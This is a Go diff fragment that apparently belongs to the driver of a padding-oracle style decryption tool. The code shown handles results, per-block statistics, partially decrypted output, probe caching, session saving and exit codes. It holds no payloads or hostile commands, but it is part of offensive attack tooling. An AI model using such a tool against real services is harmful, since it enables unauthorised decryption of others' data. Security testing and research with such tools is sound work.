+			metrics.ObserveInput(err)
+		}
+		if apiServer != nil {
+			reportJob(apiServer, i+1, notified, resultEncoder, err)
+		}
+
+		results.add(err)
+
+		// per-block metrics, also of blocks broken before the error
+		var blocks []out.BlockStats
+		if blockStats != nil {
+			blocks = blockStats.take()
+			printBlockStats(print, blocks)
+		}
+
+		// blocks decrypted before the error
+		var partial []byte
+		var incomplete *exploit.IncompleteError
+		if errors.As(err, &incomplete) && incomplete.DoneCount() > 0 {
+			partial = renderIncomplete(incomplete, bl)
+		}
+
+		// deliver result to output sinks
+		// NOTE: in pipeline, plaintext is passed on without padding, as other tools would choke on it
+		if *args.Pipe {
+			output = notified
+		}
+		err = router.Write(&out.Result{
+			Mode:    mode,
+			Input:   input,
+			Output:  output,
+			Err:     err,
+			Binary:  binary,
+			Blocks:  blocks,
+			Partial: partial,
+		})
+		if err == out.ErrBinaryOutput {
+			print.Warning("%s. Use %s to write raw bytes anyway, or redirect STDOUT", err, color.CyanBold("-force-raw"))
+		} else if err != nil {
+			// do not tolerate errors in output writer
+			print.Error(err)
+			exit(1)
+		}
+
+		if interrupted {
+			break
+		}
+	}
+
+	// give the terminal back, and reproduce the log
+	if tui != nil {
+		tui.Stop(stderr)
+		print.Stream = stderr
+	}
+
+	if cache != nil && cache.Hits() > 0 {
+		print.Info("%s probes were answered from cache", color.Green(cache.Hits()))
+	}
+	if dedup != nil && dedup.Shared() > 0 {
+		print.Info("%s probes shared response with identical ones of other blocks", color.Green(dedup.Shared()))
+	}
+
+	// the rest of work can be resumed
+	if interrupted {
+		timeIsOver := ctx.Err() == context.DeadlineExceeded
+		if timeIsOver {
+			print.Warning("maximum runtime (%s) exceeded", *args.MaxRuntime)
+			notifyFinish(notifier, status.mode, "maximum runtime (%s) exceeded, %d of %d inputs failed", *args.MaxRuntime, errCount, len(inputs)-skipped)
+		} else {
+			notifyFinish(notifier, status.mode, "interrupted, %d of %d inputs failed", errCount, len(inputs)-skipped)
+		}
+
+		if !sessionSaved {
+			if path, saveErr := saveSession(); saveErr != nil {
+				print.Warning("could not save session: %s", saveErr)
+			} else {
+				print.Success("session saved to %s, resume with %s", color.Green(path), color.CyanBold("-resume "+path))
+			}
+		}
+
+		// same as timeout(1)
+		if timeIsOver {
+			exit(exitDeadline)
+		}
+		exit(exitAborted)
+	}
+
+	notifyFinish(notifier, status.mode, "finished, %d of %d inputs failed", errCount, len(inputs)-skipped)
+
+	// headless instance is stopped by interrupt only, while waiting for inputs
+	if apiServer != nil {
+		exit(exitAborted)
+	}
+
+	exit(results.exitCode())
+}
+
+// reads inputs: single one passed in CLI arguments, or lines of STDIN
+func readInputs(args *Args) []string {
+	if args.Input != nil {
+		return []string{*args.Input}
+	}
+
+	inputs := make([]string, 0)
+	scanner := bufio.NewScanner(os.Stdin)
+	for scanner.Scan() {
+		inputs = append(inputs, scanner.Text())
+	}
+	return inputs
+}